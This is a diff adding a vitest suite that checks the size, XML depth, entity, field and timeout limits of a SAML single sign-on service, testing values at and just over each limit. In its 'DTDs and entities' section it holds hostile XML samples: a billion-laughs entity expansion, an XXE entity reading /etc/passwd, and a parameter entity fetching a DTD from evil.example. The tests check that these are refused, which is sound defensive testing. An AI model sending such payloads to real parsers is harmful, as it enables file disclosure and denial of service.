@@ -1,0 +1,318 @@
+/**
+ * Every size, depth, entity and time limit, refused with its status and code at each API style, and
+ * accepted right at the limit. Where the wire stays generic (the ACS), the logged reason is checked.
+ *
+ * Already covered elsewhere, and not repeated here:
+ * - Clerk create over 1 MiB: test/clerk/create-errors.test.ts, "returns 413 for a body over the size cap".
+ * - Clerk create with DOCTYPE, XXE and entity expansion in idp_metadata: test/clerk/create-errors.test.ts,
+ *   "returns 422 saml_failed_to_parse_idp_metadata for broken or hostile metadata".
+ * - SuperTokens PUT over 1 MiB, with and without Content-Length: test/supertokens/bad-input.test.ts,
+ *   "answers 400 to a body over 1 MiB, and changes nothing" and "answers 400 to a chunked body over 1 MiB ...".
+ * - SuperTokens metadataXML over 512 KiB, with a DOCTYPE, an external entity or nested entities:
+ *   test/supertokens/bad-input.test.ts, "answers 400 for metadata larger than 512 KiB, and changes nothing" (and siblings).
+ * - SuperTokens redirectURIs over 50 and clientId over 255: test/supertokens/bad-input.test.ts, "answers 400 for more than 50 redirect URIs ...".
+ * - Metadata URL body over the cap, and Clerk create timing out on it: test/clerk/metadata-url.test.ts,
+ *   "returns 400 saml_failed_to_fetch_idp_metadata for a body over the size cap / a host that does not answer in time".
+ * - Engine-level byte and depth boundaries: test/saml/metadata.security.test.ts and test/saml/response.security.test.ts ("too-large").
+ * - Clerk list limit=0/501, offset=-1: test/clerk/list.test.ts, "returns 400 invalid_query_parameter_value for out-of-range ...".
+ */
+import { SELF } from 'cloudflare:test'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { MAX_BODY_BYTES } from '../../src/http/middleware/json-body'
+import { MAX_METADATA_BYTES, MAX_SAML_RESPONSE_BYTES, MAX_XML_DEPTH, METADATA_FETCH_TIMEOUT_MS } from '../../src/saml/limits'
+import { clerkClient, connectionInput, newInstance } from '../helpers/clerk'
+import { idpCertPem } from '../helpers/keys'
+import { activeConnection, APP_CALLBACK } from '../helpers/sso'
+import { base64, clientBody, idpMetadataXml, newApp, newTenantId, stClient } from '../supertokens/helpers'
+import { base64OfText } from './arbitraries'
+import { snapshotInstance } from './store'
+import { captureLogs, expectBrowserError, expectClerkError, ORIGIN, send, type Answer } from './wire'
+
+const logs = captureLogs()
+const MAX_BASE64_CHARS = Math.ceil(MAX_SAML_RESPONSE_BYTES / 3) * 4
+const ACS_BODY_LIMIT = 2 * MAX_SAML_RESPONSE_BYTES
+const utf8Length = (s: string) => new TextEncoder().encode(s).byteLength
+const codes = (a: Answer) => a.json.errors.map((e: { code: string; meta?: { param_name?: string } }) => [e.code, e.meta?.param_name])
+
+/** A JSON object body of exactly `bytes` bytes: the given fields plus a padding field. */
+function jsonOfSize(fields: Record<string, unknown>, bytes: number): string {
+  const base = JSON.stringify({ ...fields, padding: '' })
+  return JSON.stringify({ ...fields, padding: 'x'.repeat(bytes - base.length) })
+}
+
+/** IdP metadata padded with a comment to exactly `bytes` bytes of UTF-8, with `fill` as the padding character. */
+function metadataOfSize(bytes: number, fill = 'x', entityId = `https://idp.example.com/${crypto.randomUUID()}`): string {
+  const xml = idpMetadataXml({ entityId })
+  const at = xml.indexOf('?>') + 2
+  const room = bytes - utf8Length(xml) - '<!---->'.length
+  const pad = fill.repeat(Math.floor(room / utf8Length(fill))) + 'x'.repeat(room % utf8Length(fill))
+  const out = `${xml.slice(0, at)}<!--${pad}-->${xml.slice(at)}`
+  expect(utf8Length(out)).toBe(bytes)
+  return out
+}
+
+/** Metadata whose deepest element sits at `depth`: the entity wrapped in EntitiesDescriptor elements. */
+function metadataOfDepth(depth: number): string {
+  const inner = idpMetadataXml({ entityId: `https://idp.example.com/${crypto.randomUUID()}` }).replace(/^<\?xml[^>]*\?>/, '')
+  const wrappers = depth - 6 // EntityDescriptor > IDPSSODescriptor > KeyDescriptor > KeyInfo > X509Data > X509Certificate
+  const open = '<md:EntitiesDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata">'.repeat(wrappers)
+  return `<?xml version="1.0"?>${open}${inner}${'</md:EntitiesDescriptor>'.repeat(wrappers)}`
+}
+
+/** A stream of `chunks` chunks of 64 KiB, sent without Content-Length. */
+function chunkedBody(prefix: string, chunks: number): ReadableStream<Uint8Array> {
+  const chunk = new TextEncoder().encode('x'.repeat(64 * 1024))
+  let sent = -1
+  return new ReadableStream<Uint8Array>({
+    pull(controller) {
+      sent++
+      if (sent === 0) controller.enqueue(new TextEncoder().encode(prefix))
+      else if (sent <= chunks) controller.enqueue(chunk)
+      else controller.close()
+    },
+  })
+}
+
+/** The reason the engine logged for the last refused browser request. */
+const loggedReason = () =>
+  logs
+    .take()
+    .filter((l) => l.event === 'browser_error')
+    .map((l) => (l.reason ? JSON.parse(String(l.reason)).reason : l.code))
+    .pop()
+
+describe('request body size', () => {
+  it('Clerk: reads a body of exactly 1 MiB, and answers 413 request_body_too_large one byte over, on create and update', async () => {
+    const { instanceId, secretKey } = await newInstance()
+    const api = clerkClient(secretKey)
+    const id = (await api.create(connectionInput())).body.id
+    const before = await snapshotInstance(instanceId)
+    const atLimit = await api.call('POST', '/v1/saml_connections', jsonOfSize({ name: 'x' }, MAX_BODY_BYTES))
+    // Read and validated: only the padding field is wrong.
+    expect(atLimit.status).toBe(422)
+    expect(atLimit.body.errors.map((e: any) => [e.code, e.meta?.param_name])).toContainEqual(['form_param_unknown', 'padding'])
+    for (const [method, path] of [['POST', '/v1/saml_connections'], ['PATCH', `/v1/saml_connections/${id}`]] as const) {
+      const res = await api.call(method, path, jsonOfSize({ name: 'x' }, MAX_BODY_BYTES + 1))
+      expect(res.status, `${method} ${path}`).toBe(413)
+      expect(res.body.errors).toEqual([expect.objectContaining({ code: 'request_body_too_large', meta: { limit: MAX_BODY_BYTES } })])
+    }
+    const chunked = await send(`/v1/saml_connections/${id}`, { method: 'PATCH', headers: { authorization: `Bearer ${secretKey}`, 'content-type': 'application/json' }, body: chunkedBody('{"name":"', 17) })
+    expectClerkError(chunked)
+    expect(codes(chunked)).toEqual([['request_body_too_large', undefined]])
+    expect(await snapshotInstance(instanceId)).toEqual(before)
+  })
+
+  it('SuperTokens: reads exactly 1 MiB, and answers 400 with the size one byte over, at remove and under a tenant', async () => {
+    const { apiKey, instanceId } = await newApp()
+    const tenant = newTenantId()
+    const st = stClient(apiKey, `/${tenant}`)
+    expect((await st.put(clientBody({ clientId: 'kept' }))).body.status).toBe('OK')
+    const before = await snapshotInstance(instanceId)
+    const atLimit = await st.call('PUT', '/recipe/saml/clients', jsonOfSize(clientBody({ clientId: 'at-limit' }), MAX_BODY_BYTES))
+    expect(atLimit.body.status).toBe('OK') // unknown fields are ignored, as the core ignores them
+    const after = await snapshotInstance(instanceId)
+    for (const [method, path, fields] of [['PUT', '/recipe/saml/clients', clientBody({ clientId: 'kept' })], ['POST', '/recipe/saml/clients/remove', { clientId: 'kept' }]] as const) {
+      const res = await st.call(method, path, jsonOfSize(fields, MAX_BODY_BYTES + 1))
+      expect([res.status, res.contentType, res.text], `${method} ${path}`).toEqual([400, 'text/html; charset=UTF-8', `Request body is larger than ${MAX_BODY_BYTES} bytes\n`])
+    }
+    expect(await snapshotInstance(instanceId)).toEqual(after)
+    expect(after.connections).toHaveLength(before.connections.length + 1)
+  })
+
+  it(`ACS: reads a form body of exactly ${ACS_BODY_LIMIT} bytes, and answers 413 one byte over, with or without Content-Length`, async () => {
+    const { connection } = await activeConnection({ allow_idp_initiated: true })
+    const post = (body: string | ReadableStream<Uint8Array>, accept?: string) =>
+      send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', ...(accept ? { accept } : {}) }, body: body as string })
+    const prefix = 'SAMLResponse='
+    logs.take()
+    const atLimit = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT - prefix.length))
+    expectBrowserError(atLimit, 'html')
+    expect([atLimit.status, loggedReason()]).toEqual([400, 'too_large']) // read, then refused by the SAMLResponse cap
+    const over = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT - prefix.length + 1))
+    expectBrowserError(over, 'html')
+    expect([over.status, loggedReason()]).toEqual([413, 'body_too_large'])
+    const overJson = await post(prefix + 'A'.repeat(ACS_BODY_LIMIT), 'application/json')
+    expectBrowserError(overJson, 'json')
+    expect([overJson.status, overJson.json.error]).toEqual([413, 'invalid_request'])
+    const chunked = await SELF.fetch(`${ORIGIN}/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: chunkedBody(prefix, 9) })
+    expect(chunked.status).toBe(413)
+    await chunked.text()
+  })
+
+  it('token: answers 413 invalid_request as JSON for a body over the cap, and 400 for a code over 4096 characters', async () => {
+    const over = await send('/v1/saml/token', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `code=${'c'.repeat(ACS_BODY_LIMIT)}` })
+    expectBrowserError(over, 'json')
+    expect([over.status, over.json.error]).toEqual([413, 'invalid_request'])
+    const longCode = await send('/v1/saml/token', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `code=${'c'.repeat(4097)}` })
+    expectBrowserError(longCode, 'json')
+    expect([longCode.status, longCode.json.error]).toEqual([400, 'invalid_request'])
+  })
+})
+
+describe('SAMLResponse size', () => {
+  it(`reads a SAMLResponse of exactly ${MAX_SAML_RESPONSE_BYTES} bytes, and refuses one byte or base64 character more as too_large`, async () => {
+    const { connection } = await activeConnection({ allow_idp_initiated: true })
+    const post = (value: string) => send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
+    logs.take()
+    const atLimit = await post(base64OfText('x'.repeat(MAX_SAML_RESPONSE_BYTES)))
+    expect([atLimit.status, atLimit.text.includes('invalid_saml_response'), loggedReason()]).toEqual([400, true, 'not_xml']) // decoded and read: just not XML
+    const overByOne = base64OfText('x'.repeat(MAX_SAML_RESPONSE_BYTES + 1))
+    expect(overByOne.length).toBe(MAX_BASE64_CHARS) // as many characters as the cap, one byte too many
+    // Line-wrapped base64 is measured without its line breaks.
+    const wrapped = 'A'.repeat(MAX_BASE64_CHARS + 4).replace(/(.{76})/g, '$1\r\n')
+    for (const value of [overByOne, 'A'.repeat(MAX_BASE64_CHARS + 1), wrapped]) {
+      const a = await post(value)
+      expectBrowserError(a, 'html')
+      expect([a.status, a.text.includes('invalid_saml_response'), loggedReason()]).toEqual([400, true, 'too_large'])
+    }
+  })
+})
+
+describe('IdP metadata size', () => {
+  it(`Clerk: accepts metadata of exactly ${MAX_METADATA_BYTES} bytes; refuses one more character (422 form_param_value_invalid) or byte (422 saml_failed_to_parse_idp_metadata)`, async () => {
+    const { instanceId, secretKey } = await newInstance()
+    const api = clerkClient(secretKey)
+    expect((await api.create(connectionInput({ idp_metadata: metadataOfSize(MAX_METADATA_BYTES) }))).status).toBe(200)
+    const before = await snapshotInstance(instanceId)
+    const tooManyChars = await api.create(connectionInput({ idp_metadata: metadataOfSize(MAX_METADATA_BYTES + 1) }))
+    expect([tooManyChars.status, tooManyChars.body.errors.map((e: any) => [e.code, e.meta?.param_name])]).toEqual([422, [['form_param_value_invalid', 'idp_metadata']]])
+    // Fewer characters than the field allows, more bytes than the parser reads.
+    const tooManyBytes = metadataOfSize(MAX_METADATA_BYTES + 1, 'é')
+    expect(tooManyBytes.length).toBeLessThanOrEqual(MAX_METADATA_BYTES)
+    const refused = await api.create(connectionInput({ idp_metadata: tooManyBytes }))
+    expect([refused.status, refused.body.errors[0].code]).toEqual([422, 'saml_failed_to_parse_idp_metadata'])
+    expect(await snapshotInstance(instanceId)).toEqual(before)
+  })
+
+  it(`SuperTokens: accepts metadataXML of exactly ${MAX_METADATA_BYTES} bytes, refuses one byte more`, async () => {
+    const st = stClient((await newApp()).apiKey)
+    expect((await st.put(clientBody({ metadataXML: base64(metadataOfSize(MAX_METADATA_BYTES)) }))).body.status).toBe('OK')
+    const over = await st.put(clientBody({ metadataXML: base64(metadataOfSize(MAX_METADATA_BYTES + 1)) }))
+    expect([over.status, over.text]).toEqual([400, 'metadataXML does not have a valid SAML metadata\n'])
+  })
+})
+
+describe(`XML depth (${MAX_XML_DEPTH} nested elements)`, () => {
+  it('accepts metadata nested exactly to the limit and refuses one level more, in both styles', async () => {
+    const { secretKey } = await newInstance()
+    const api = clerkClient(secretKey)
+    const st = stClient((await newApp()).apiKey)
+    expect((await api.create(connectionInput({ idp_metadata: metadataOfDepth(MAX_XML_DEPTH) }))).status).toBe(200)
+    expect((await st.put(clientBody({ metadataXML: base64OfText(metadataOfDepth(MAX_XML_DEPTH)) }))).body.status).toBe('OK')
+    const clerkDeep = await api.create(connectionInput({ idp_metadata: metadataOfDepth(MAX_XML_DEPTH + 1) }))
+    expect([clerkDeep.status, clerkDeep.body.errors[0].code]).toEqual([422, 'saml_failed_to_parse_idp_metadata'])
+    const stDeep = await st.put(clientBody({ metadataXML: base64OfText(metadataOfDepth(MAX_XML_DEPTH + 1)) }))
+    expect([stDeep.status, stDeep.text]).toEqual([400, 'metadataXML does not have a valid SAML metadata\n'])
+  })
+
+  it('refuses a SAMLResponse nested past the limit as too_deep, at once', async () => {
+    const { connection } = await activeConnection({ allow_idp_initiated: true })
+    // The root counts as one level; 30,000 levels still fit under the size cap.
+    for (const depth of [MAX_XML_DEPTH, 30_000]) {
+      const xml = `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</samlp:Response>`
+      const value = base64OfText(xml)
+      logs.take()
+      const started = Date.now()
+      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: value }).toString() })
+      expectBrowserError(a, 'html')
+      expect([a.status, loggedReason()], `depth ${depth}`).toEqual([400, 'too_deep'])
+      expect(Date.now() - started).toBeLessThan(2_000)
+    }
+  })
+})
+
+describe('DTDs and entities', () => {
+  const lolz = `<!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('')}]>`
+
+  it('refuses a SAMLResponse with entity expansion, an external entity or a parameter entity as dtd_forbidden, at once', async () => {
+    const { connection } = await activeConnection({ allow_idp_initiated: true })
+    for (const doctype of [lolz, '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>']) {
+      const xml = `<?xml version="1.0"?>${doctype}<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_r" Version="2.0">&lol9;&xxe;</samlp:Response>`
+      logs.take()
+      const started = Date.now()
+      const a = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'application/json' }, body: new URLSearchParams({ SAMLResponse: base64OfText(xml) }).toString() })
+      expectBrowserError(a, 'json')
+      expect([a.status, a.json.error, loggedReason()]).toEqual([400, 'invalid_saml_response', 'dtd_forbidden'])
+      expect(Date.now() - started).toBeLessThan(2_000)
+    }
+  })
+
+  it('refuses entity expansion in metadata on update too, and changes nothing', async () => {
+    const { instanceId, secretKey } = await newInstance()
+    const api = clerkClient(secretKey)
+    const { id } = (await api.create(connectionInput())).body
+    const before = await snapshotInstance(instanceId)
+    const xml = idpMetadataXml({ prolog: lolz, entityId: '&lol9;' })
+    const res = await api.update(id, { idp_metadata: xml })
+    expect([res.status, res.body.errors[0].code]).toEqual([422, 'saml_failed_to_parse_idp_metadata'])
+    expect(await snapshotInstance(instanceId)).toEqual(before)
+  })
+})
+
+describe('metadata fetch timeout', () => {
+  it(`gives up on a slow IdP after ${METADATA_FETCH_TIMEOUT_MS} ms on update: 400 saml_failed_to_fetch_idp_metadata, nothing changed`, async () => {
+    const { instanceId, secretKey } = await newInstance()
+    const api = clerkClient(secretKey)
+    const { id } = (await api.create(connectionInput({ idp_entity_id: 'https://idp.example.com/kept' }))).body
+    const before = await snapshotInstance(instanceId)
+    const started = Date.now()
+    const res = await api.update(id, { idp_metadata_url: 'https://idp-metadata.test/slow' })
+    const elapsed = Date.now() - started
+    expect([res.status, res.body.errors[0].code]).toEqual([400, 'saml_failed_to_fetch_idp_metadata'])
+    // The test IdP answers after 8 s; the refusal comes from our own timeout, not from its answer.
+    expect(elapsed).toBeGreaterThanOrEqual(METADATA_FETCH_TIMEOUT_MS - 50)
+    expect(elapsed).toBeLessThan(8_000)
+    expect(await snapshotInstance(instanceId)).toEqual(before)
+  }, 15_000)
+})
+
+describe('field and query caps', () => {
+  it('Clerk: refuses arrays and strings over their caps with 422 naming the field, and accepts them at the cap', async () => {
+    const { secretKey } = await newInstance()
+    const api = clerkClient(secretKey)
+    const t = crypto.randomUUID().slice(0, 8)
+    const urls = (n: number) => Array.from({ length: n }, (_, i) => `https://app.example.com/cb/${i}`)
+    const domains = (n: number, p: string) => Array.from({ length: n }, (_, i) => `d${i}-${p}-${t}.example.com`)
+    const cases: [string, Record<string, unknown>, Record<string, unknown>][] = [
+      ['domains', { domains: domains(50, 'ok') }, { domains: domains(51, 'no') }],
+      ['redirect_uris', { redirect_uris: urls(20) }, { redirect_uris: urls(21) }],
+      ['idp_certificates', { idp_certificates: Array(10).fill(idpCertPem) }, { idp_certificates: Array(11).fill(idpCertPem) }],
+      ['name', { name: 'n'.repeat(256) }, { name: 'n'.repeat(257) }],
+      ['organization_id', { organization_id: `o${t}`.padEnd(128, 'o') }, { organization_id: 'o'.repeat(129) }],
+    ]
+    for (const [param, ok, over] of cases) {
+      const accepted = await api.create(connectionInput(ok))
+      expect(accepted.status, `${param} at the cap: ${JSON.stringify(accepted.body).slice(0, 200)}`).toBe(200)
+      const refused = await api.create(connectionInput(over))
+      expect([refused.status, refused.body.errors.map((e: any) => [e.code, e.meta?.param_name])], param).toEqual([422, [['form_param_value_invalid', param]]])
+    }
+  })
+
+  it('Clerk list: refuses more than 100 organization_id values and a query over 256 characters with 400, accepts limit=500', async () => {
+    const api = clerkClient((await newInstance()).secretKey)
+    const orgs = (n: number) => Array.from({ length: n }, (_, i) => `organization_id=org_${i}`).join('&')
+    expect((await api.list(`?${orgs(100)}&limit=500`)).status).toBe(200)
+    for (const [q, param] of [[`?${orgs(101)}`, 'organization_id'], [`?query=${'q'.repeat(257)}`, 'query']]) {
+      const res = await api.list(q)
+      expect([res.status, res.body.errors[0].code, res.body.errors[0].meta.param_name]).toEqual([400, 'invalid_query_parameter_value', param])
+    }
+  })
+
+  it('login: refuses a redirect_uri over 4096 characters with 400 invalid_request', async () => {
+    const { connection } = await activeConnection()
+    const res = await send(`/v1/saml/login?${new URLSearchParams({ connection_id: connection.id, redirect_uri: `${APP_CALLBACK}?${'x'.repeat(4097)}` })}`)
+    expectBrowserError(res, 'html')
+    expect(res.status).toBe(400)
+    expect(res.text).toContain('invalid_request')
+  })
+
+  it('ACS: a RelayState far over the KV key limit (512 bytes) is bounded, not a failure', async () => {
+    const { connection } = await activeConnection({ allow_idp_initiated: true })
+    // Sized to stay under the ACS body cap once form-encoded (an emoji is 12 bytes there).
+    for (const relay of ['r'.repeat(100_000), '😀'.repeat(20_000), '\u0800'.repeat(20_000)]) {
+      const res = await send(`/v1/saml/acs/${connection.id}`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams({ SAMLResponse: 'PHg+', RelayState: relay }).toString() })
+      expectBrowserError(res, 'html')
+      expect(res.status).toBe(400)
+    }
+  })
+})
